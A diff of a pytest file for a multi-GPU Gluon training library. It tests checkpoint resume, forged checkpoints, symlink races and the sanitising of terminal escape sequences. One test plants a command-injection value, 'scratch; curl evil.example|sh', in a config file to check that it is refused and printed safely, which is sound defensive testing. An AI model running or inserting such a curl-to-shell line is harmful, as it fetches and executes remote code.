@@ -7,22 +7,26 @@ import shutil
 import idx_files
 import numpy
 import pytest
+from checkpoints.loops import OPTIMIZERS, small_resnet
 from devices_flag import devices_flag
 from history_csv import history
 from slow import slow
+from trainers import trainable
 
 from gluon_mgpu import concise, scratch
 from gluon_mgpu.base.program import JobError
-from gluon_mgpu.checkpoints import callback, checkpoint
-from gluon_mgpu.checkpoints.callback import CheckpointCallback
-from gluon_mgpu.checkpoints.run_folder import checkpoints
+from gluon_mgpu.checkpoints import checkpoint, checkpoint_callback as callback
+from gluon_mgpu.checkpoints.checkpoint_callback import CheckpointCallback
+from gluon_mgpu.checkpoints.run_folder import checkpoints, lock_folder
 from gluon_mgpu.data.batches import BatchIterator
 from gluon_mgpu.mxnet_setup.compat import gluon, np
+from gluon_mgpu.networks.loss import cross_entropy
 from gluon_mgpu.parallel.allreduce import ALGORITHMS
 from gluon_mgpu.parallel.workers import Workers
 from gluon_mgpu.programs import export, predict
 from gluon_mgpu.settings.resume import AUTO, check_on_rank_0, check_same_run
 from gluon_mgpu.training.callback import Callback
+from gluon_mgpu.training.evaluate import evaluate_accuracy_gpus
 from gluon_mgpu.training.run import Run
 from gluon_mgpu.training.schedules import schedule
 
@@ -94,19 +98,43 @@ def test_resume_after_an_epoch(chapter, devices, data, tmp_path):
                  resume=checkpoint_after(2, tmp_path / 'first')) == whole
 
 
+@pytest.mark.parametrize('k', [slow(1), 2, slow(3)])
 @pytest.mark.parametrize('settings', [{'optimizer': 'nag', 'momentum': 0.9}, slow({'optimizer': 'adam'}),
-                                      {'clip_norm': 0.1}])
-def test_other_optimizers_resume_within_an_epoch(settings, devices, data, tmp_path, keep_all):
-    def net():
-        net = gluon.nn.HybridSequential()
-        net.add(gluon.nn.Flatten(), gluon.nn.Dense(10))
-        return net
-
-    plain = train(concise, devices, data, tmp_path / 'plain', net=net())
-    whole = train(concise, devices, data, tmp_path / 'whole', net=net(), **settings)
+                                      slow({'momentum': 0.9, 'sync_batch_norm': True}), {'clip_norm': 0.1}])
+def test_other_optimizers_resume_within_an_epoch(settings, k, device_list, data, tmp_path, keep_all):
+    devices = device_list(k)
+    plain = train(concise, devices, data, tmp_path / 'plain', net=small_resnet(devices))
+    whole = train(concise, devices, data, tmp_path / 'whole', net=small_resnet(devices), **settings)
     assert whole != plain
-    assert train(concise, devices, data, tmp_path / 'resumed', net=net(),
-                 resume=checkpoint_after(3, tmp_path / 'whole'), **settings) == whole
+    for step in (3, 5, 9):
+        assert train(concise, devices, data, tmp_path / str(step), net=small_resnet(devices),
+                     resume=checkpoint_after(step, tmp_path / 'whole'), **settings) == whole
+
+
+@pytest.mark.parametrize('k', [slow(1), 2, slow(3)])
+@pytest.mark.parametrize('optimizer', ['momentum', slow('adam')])
+@pytest.mark.parametrize('update_on_kvstore', [None, False])  # None: MXNet decides
+def test_an_own_loop_resumes(update_on_kvstore, optimizer, k, device_list, data, tmp_path, keep_all):
+    """Within an epoch and after one."""
+    devices = device_list(k)
+
+    def trained(folder, resume=None, every=1, num_epochs=EPOCHS):
+        net, (name, settings) = small_resnet(devices), OPTIMIZERS[optimizer]
+        trainer = gluon.Trainer(trainable(net), name, settings, update_on_kvstore=update_on_kvstore)
+        folder.mkdir()
+        run = Run(num_epochs, quiet=True, callbacks=[CheckpointCallback(folder, every=every, resume=resume)])
+        train_iter, test_iter = data()
+        for _ in run.epochs(net, trainer, seed=0):
+            for X, y in run.batches(train_iter):
+                run.record_losses(concise.train_batch(X, y, net, cross_entropy, trainer, devices))
+            run.end_epoch(evaluate_accuracy_gpus(net, test_iter, devices=devices))
+        return [(e.epoch, e.loss, e.test_acc) for e in run.history], bits(checkpoint.read(checkpoints(folder)[0])[1])
+
+    whole = trained(tmp_path / 'whole')
+    for step in (3, 5, 9):  # 5: after all batches of an epoch, before its evaluation
+        assert trained(tmp_path / str(step), checkpoint_after(step, tmp_path / 'whole')) == whole
+    trained(tmp_path / 'first', every=None, num_epochs=1)
+    assert trained(tmp_path / 'second', checkpoint_after(5, tmp_path / 'first'), None) == whole
 
 
 def test_a_network_with_dropout_resumes_after_an_epoch(devices, data, tmp_path):
@@ -328,10 +356,10 @@ def contents(folder):
     return {path: path.read_bytes() for path in folder.iterdir()}
 
 
-def error_of(program, *flags):
+def error_of(program, *flags, chapter=scratch):
     """Check that a command fails and changes nothing; return its error message."""
     before = contents(program.out)
-    status, _, err = program(*flags)
+    status, _, err = program(*flags, chapter=chapter)
     assert status == 2 and contents(program.out) == before
     line, = err.splitlines()
     return line
@@ -498,7 +526,7 @@ def test_values_can_be_removed(program, tmp_path):
 
 
 def test_a_run_that_has_ended_says_what_would_continue_it(program, monkeypatch):
-    monkeypatch.setattr('gluon_mgpu.training.evaluate.evaluate_accuracy_gpus', lambda *args, **options: 0.5)
+    monkeypatch.setattr(scratch, 'evaluate_accuracy_gpus', lambda *args, **options: 0.5)
     program.start('--num-epochs', 2)
     line = 'checkpoint-00000008.safetensors, which is the end of the run; to train longer, give'
     assert f'{line} a larger --num-epochs\n' in program('--resume', program.out)[1]
@@ -641,3 +669,161 @@ def test_a_run_on_another_machine(tmp_path, auto):
     folder.mkdir()
     (folder / 'config.json').touch()
     check_on_rank_0(*where, TwoWorkers(False))  # only rank 0 needs it
+
+
+@pytest.mark.parametrize('change', [
+    {'seed': 1}, {'batch_size': 32}, {'dataset': 'glyphs'}, {'label_smoothing': 0.1}, {'train_digest': None},
+    {'train_digest': 'a'}, {'test_digest': None, 'test_size': 8}, {'train_digest': None, 'train_size': 48}])
+def test_an_edited_configuration_does_not_make_it_another_run(change, program):
+    """The checkpoint says which run it is, also at the end of an epoch."""
+    program.start('--num-epochs', 1)
+    config = {**program.config(), **change}
+    config = {key: value for key, value in config.items() if value is not None}
+    (program.out / 'config.json').write_text(json.dumps(config))
+    line = error_of(program, '--resume', program.out, '--num-epochs', 2)
+    name = next(iter(change))
+    assert line.startswith(f'scratch: {name} is {change[name]!r} in config.json and ')
+    assert line.endswith(f' in {checkpoints(program.out)[0]}: restore config.json, or start a new run')
+
+
+def forge(path, run=None, **config):
+    """Write a checkpoint with some entries of its metadata replaced, and a valid checksum."""
+    record, arrays = checkpoint.read(path)
+    metadata = record.pop('metadata')
+    metadata = {**metadata, 'config': {**metadata['config'], **config}, 'run': {**metadata['run'], **(run or {})}}
+    checkpoint.write(path, checkpoint.Snapshot(arrays, record), metadata)
+
+
+@pytest.mark.parametrize('change, words', [
+    ({'num_steps': 10**13}, 'num_steps, num_batches, epoch_length or rows of its state is missing or malformed'),
+    ({'num_steps': 5}, 'with another number of batches than 4'), ({'history': []}, 'with another number of batches'),
+    ({'epoch_length': 3}, 'with another number of batches than 4'), ({'history': 1}, 'its history is not a list')])
+def test_a_forged_checkpoint_is_not_resumed(change, words, program):
+    """It is named, and nothing is written; `num_steps` of 10**13 would take years."""
+    program.start('--num-epochs', 1)
+    path, = checkpoints(program.out)
+    forge(path, change)
+    forged = path.rename(path.with_name(f'checkpoint-{change.get("num_steps", 4):08}.safetensors'))
+    line = error_of(program, '--resume', program.out, '--num-epochs', 2)
+    assert line.startswith(f'scratch: {forged} is ') and words in line
+
+
+def test_predict_and_export_refuse_forged_checkpoints(program):
+    program.start('--num-epochs', 1)
+    path, = checkpoints(program.out)
+    for change in ({'devices': None}, {'num_epochs': 'x'}, {'run': {'loss': None}}, {'dataset': []}):
+        before = path.read_bytes()
+        forge(path, **change)
+        for chapter in (predict, export):
+            assert f'{path}: must be from a run of scratch or concise; ' in error_of(program, path, chapter=chapter)
+        path.write_bytes(before)
+
+
+def test_a_chapter_that_is_not_known_is_not_printed_as_a_command(program):
+    program.start('--num-epochs', 1)
+    evil = 'scratch; curl evil.example|sh #\x1b]0;x\x07'
+    (program.out / 'config.json').write_text(json.dumps({**program.config(), 'chapter': evil}))
+    forge(checkpoints(program.out)[0], chapter=evil)
+    line = error_of(program, '--resume', program.out)
+    assert line == f'scratch: {program.out} is a run of {evil!r}: must be of scratch or concise'
+
+
+def test_control_characters_in_the_files_of_a_run(program, tmp_path):
+    """From config.json and names of folders, in messages and among the changes."""
+    program.out = tmp_path / 'a\x1b[31mb'
+    program.start('--num-epochs', 1)
+    config = {**program.config(), 'platform': '\x1b]0;title\x07', 'numpy': '\x9b31m', 'data_dir': '\x1b[2J'}
+    config['process'] = {**config['process'], 'host': '\x1b[5m', 'since': '\x07'}
+    (program.out / 'config.json').write_text(json.dumps(config))
+    printed = [*program('--resume', program.out), *program('--resume', program.out, '--data-dir', 'data'),
+               *program(program.out, chapter=predict), *program(program.out, chapter=export)]
+    with contextlib.ExitStack() as stack:
+        lock_folder(program.out, stack)
+        (program.out / 'config.json').write_text(json.dumps(config))
+        printed += program('--resume', program.out)
+    text = ''.join(map(str, printed))
+    assert not re.search('[\x00-\x09\x0b-\x1f\x7f-\x9f]', text)
+    for name in (r'a\x1b[31mb', r'\x1b]0;title\x07 ', r'\x9b31m', r'\x1b[2J', r'\x1b[5m'):
+        assert name.strip() in text, name
+
+
+def test_a_private_run_stays_private(program):
+    program.start('--num-epochs', 1)
+    for path in program.out.iterdir():
+        path.chmod(0o600)
+    assert program('--resume', program.out, '--num-epochs', 2)[0] == 0
+    for name in ('config.json', 'history.csv'):
+        assert (program.out / name).stat().st_mode & 0o777 == 0o600
+
+
+class ReplaceByLink(Callback):
+    """Callback that replaces the folder of a run by a link to another folder after the first epoch."""
+
+    def __init__(self, folder, other):
+        self.folder, self.other = folder, other
+
+    def epoch_end(self, run):
+        if not self.folder.is_symlink():
+            self.folder.rename(f'{self.folder}-moved')
+            self.folder.symlink_to(self.other)
+
+
+def test_nothing_is_written_into_a_folder_that_has_replaced_that_of_the_run(program, tmp_path):
+    """Neither checkpoints, nor the model of --export."""
+    other = tmp_path / 'other'
+    other.mkdir()
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr('gluon_mgpu.settings.cli.Job._callbacks', lambda job: [ReplaceByLink(program.out, other)])
+        status, _, err = program.start('--num-epochs', 2, '--keep-best', '--export', program.out / 'a.onnx')
+    assert status == 2 and [*other.iterdir()] == []
+    problem = 'it was replaced by another folder'
+    assert err.splitlines()[-1].startswith(f'scratch: cannot write {program.out}/a.onnx ({problem})')
+
+
+@pytest.mark.parametrize('resumed', [True, False])
+def test_a_folder_that_is_replaced_right_after_it_was_locked(resumed, program, tmp_path):
+    other = tmp_path / 'other'
+    other.mkdir()
+    if resumed:
+        program.start('--num-epochs', 1)
+
+    def lock_and_replace(folder, stack):
+        locked = lock_folder(folder, stack)
+        ReplaceByLink(program.out, other).epoch_end(None)
+        return locked
+
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr('gluon_mgpu.checkpoints.run_folder.lock_folder', lock_and_replace)
+        flags = ['--resume', program.out] if resumed else []
+        assert (program(*flags) if resumed else program.start('--num-epochs', 1))[0] == 2
+    assert [*other.iterdir()] == []
+
+
+def test_the_folder_of_the_model_vanishes_in_training(program, tmp_path):
+    class Vanish(Callback):
+        def epoch_trained(self, run):
+            (tmp_path / 'models').rmdir()
+
+    (tmp_path / 'models').mkdir()
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr('gluon_mgpu.settings.cli.Job._callbacks', lambda job: [Vanish()])
+        status, _, err = program.start('--num-epochs', 1, '--export', 'models/a.onnx')
+    assert (status, err) == (2, 'scratch: cannot write models/a.onnx (No such file or directory); the run is complete; '
+                             f'export it with: python -m gluon_mgpu export {checkpoints(program.out)[0]} --out '
+                             'models/a.onnx\n')
+
+
+def test_a_checkpoint_that_is_one_step_newer_is_noticed(program):
+    program.start('--num-epochs', 1, '--checkpoint-every', 1)
+    newer, older = checkpoints(program.out)
+    assert f'{newer.name} is newer and would be lost' in error_of(program, '--resume', older)
+
+
+def test_a_model_in_a_folder_with_a_longer_name_is_elsewhere(program, tmp_path):
+    model = tmp_path / 'run-models/a.onnx'
+    model.parent.mkdir()
+    program.start('--num-epochs', 1, '--export', model)
+    before = model.read_bytes()
+    status, _, err = program('--resume', program.out, '--num-epochs', 2)
+    assert (status, model.read_bytes()) == (0, before) and 'the model will not be exported to ' in err
+    assert not (program.out / 'a.onnx').exists()
